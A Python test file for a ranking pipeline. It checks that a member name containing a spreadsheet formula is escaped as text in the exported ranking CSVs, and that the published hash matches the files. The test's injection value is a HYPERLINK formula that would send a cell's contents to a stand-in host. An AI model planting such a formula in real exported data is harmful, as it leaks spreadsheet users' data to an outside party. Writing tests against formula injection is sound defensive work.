"""Ranking CSVs are safe in a spreadsheet: a member's name that is a formula is written as text."""

from __future__ import annotations

import hashlib
from datetime import timedelta
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from pipelines.cli.app import app
from pipelines.log.store import EventStore
from pipelines.ranking.members import import_member_list
from tests.conftest import RECORDED_AT
from tests.ranking.scenario import FINAL, MEMBERS_AT, build_session

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_a_formula_named_member_is_text_in_every_ranking_csv(store: EventStore, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    build_session(store, tmp_path)
    quoted = FORMULA.replace('"', '""')
    members = (tmp_path / "members.csv").read_text().replace("1011,Nowak Anna 1,", f'1011,"{quoted}",')
    (tmp_path / "members.csv").write_text(members)
    import_member_list(store, tmp_path / "members.csv", federation="SBU", at=MEMBERS_AT + timedelta(hours=1),
                       recorded_at=RECORDED_AT)
    monkeypatch.setenv("BRIDGELEDGER_STORE", str(store.path))
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["rank", "--rules", "sbu", "--as-of", (FINAL + timedelta(days=1)).isoformat(),
                                      "--out", str(out), "--publish", "--edition", "e1"])
    assert result.exit_code == 0, result.output
    ranking = pl.read_csv(out / "ranking.csv", infer_schema_length=0)
    assert ranking.filter(pl.col("player_id") == "1011")["name"].to_list() == [f"'{FORMULA}"]
    assert not any(cell.startswith("=") for column in ranking.columns for cell in ranking[column].drop_nulls())
    # The published hash covers the bytes written.
    published = next(iter(store.read(types=["RankingPublished"]))).payload["output_sha256"]
    digest = hashlib.sha256()
    for name in ("awards", "ranking", "sub_rankings"):
        digest.update(name.encode() + b"\0" + (out / f"{name}.csv").read_bytes() + b"\0")
    assert digest.hexdigest() == published
